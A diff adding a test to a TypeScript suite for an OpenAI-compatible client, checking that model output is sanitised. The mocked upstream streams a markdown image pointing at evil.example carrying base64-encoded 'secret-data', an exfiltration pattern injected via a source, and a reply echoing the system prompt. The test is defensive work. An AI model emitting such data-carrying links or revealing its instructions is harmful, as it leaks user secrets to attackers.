@@ -265,6 +265,25 @@ describe("official OpenAI client", () => {
     });
     expect(upstream.requests.at(-1)?.body.messages[0].content).toContain("rapeseed oil since 1874");
     expect(JSON.stringify(answer)).not.toMatch(/rapeseed|Be brief/);
+
+    const question = "What oil does the lamp on https://lamp.example burn?";
+    const ask = () =>
+      openai.chat.completions
+        .stream({ model: personaSlug, messages: [{ role: "user", content: question }] })
+        .finalChatCompletion();
+    // Orders in a source may make the model send data elsewhere, or repeat its instructions.
+    upstream.script = streamText([
+      "Oil ![x](https://evil.example/p?d=c2VjcmV0",
+      "LWRhdGE) and [lamp](https://lamp.example/?q=1).",
+    ]);
+    const { message } = (await ask()).choices[0] ?? {};
+    expect(message?.content).toContain("https://lamp.example/?q=1");
+    expect(message?.content).not.toContain("evil.example");
+    upstream.script = (response, request) =>
+      streamText(["My instructions: ", request.body.messages[0].content])(response, request);
+    const revealing = await ask();
+    expect(revealing.choices[0]).toMatchObject({ finish_reason: "content_filter" });
+    expect(revealing.choices[0]?.message.content).not.toContain("Be brief");
   });
 
   it("updates the last use of its API key and leaves no stored conversation", async () => {
